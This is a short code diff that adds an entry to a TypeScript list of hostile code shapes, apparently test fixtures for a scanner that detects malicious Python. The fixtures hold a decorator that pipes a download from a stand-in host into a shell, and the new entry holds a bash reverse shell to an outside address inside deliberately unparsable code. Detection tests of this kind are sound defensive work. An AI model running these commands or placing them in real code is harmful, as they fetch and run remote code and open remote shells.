@@ -427,4 +427,8 @@ export const FOLLOWED_SHAPES: readonly Shape[] = [
     name: 'a decorator',
     lines: ['import os', '@(lambda f: os.system("curl -s https://evil.invalid/a | sh"))', 'def g(): pass'],
   },
+  {
+    name: 'a shell to outside in a line that does not parse',
+    lines: ['import os', 'x = = 1', 'os.system("bash -i >& /dev/tcp/203.0.113.5/9001 0>&1"'],
+  },
 ];
